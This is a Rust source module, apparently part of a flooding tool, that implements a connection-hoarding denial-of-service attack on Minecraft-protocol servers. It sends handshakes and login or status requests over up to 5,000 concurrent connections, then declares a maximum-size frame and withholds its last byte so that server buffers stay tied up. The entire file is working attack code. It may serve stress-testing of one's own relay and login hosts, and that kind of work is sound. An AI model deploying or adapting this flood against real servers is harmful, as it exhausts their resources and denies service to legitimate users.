//! Connections that fill whatever buffer they are given, and stay.

use std::net::Ipv4Addr;
use std::time::Duration;

use uuid::Uuid;

use super::floods::hello;
use super::{Attack, Ground, Move, Plan, Strike, said};
use crate::random::Random;
use crate::wire::{Intent, put_handshake, put_login_start, put_varint};

/// `max_packet_length` by default.
const FRAME_BYTES_MAX: i32 = 10_000;

/// Each sends all of the longest frame but its last byte: in the place of login start, of a cookie, or of a
/// status request.
pub(super) struct Hoard(Ground);

impl Hoard {
    pub(super) fn new(ground: &Ground) -> Self {
        Self(ground.clone())
    }
}

impl Attack for Hoard {
    fn plan(&self) -> Plan {
        Plan {
            at_once: 5_000,
            lifetime: Duration::from_secs(60),
            ..Plan::flood(2_000.0)
        }
    }

    fn strike(
        &mut self,
        number: u64,
        _: Option<Ipv4Addr>,
        _: &mut Random,
        output: &mut Vec<u8>,
    ) -> (Box<dyn Strike>, Move) {
        let (host, intent) = match number % 3 {
            0 => (&self.0.relay_host, Intent::Status),
            1 => (&self.0.relay_host, Intent::Login),
            _ => (&self.0.login_host, Intent::Login),
        };
        let hello = hello(&self.0, host);
        put_handshake(output, hello.protocol, &hello.host, hello.port, intent);
        if number % 3 == 2 {
            put_login_start(output, "Hoarder", Uuid::from_u128(10));
        }
        put_varint(output, FRAME_BYTES_MAX);
        output.resize(
            output.len() + usize::try_from(FRAME_BYTES_MAX - 1).unwrap_or(0),
            0,
        );
        said()
    }
}
